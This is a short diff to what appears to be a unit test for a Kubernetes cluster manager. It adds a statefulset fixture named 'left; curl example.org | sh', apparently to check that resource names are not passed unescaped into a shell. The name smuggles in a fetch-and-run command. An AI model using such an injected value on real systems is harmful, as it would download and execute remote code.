@@ -166,6 +166,8 @@ describe("the cluster of a manager", () => {
         cluster.objects = {
             "/apis/apps/v1/namespaces/ci/statefulsets": [
                 { metadata: metadata("left", "demo/test/it") },
+                // It would be pasted into a shell.
+                { metadata: metadata("left; curl example.org | sh", "demo/test/it") },
                 { metadata: metadata("of-others", "other/prod/ci-01") },
                 { metadata: { name: "of-nobody" } },
             ],
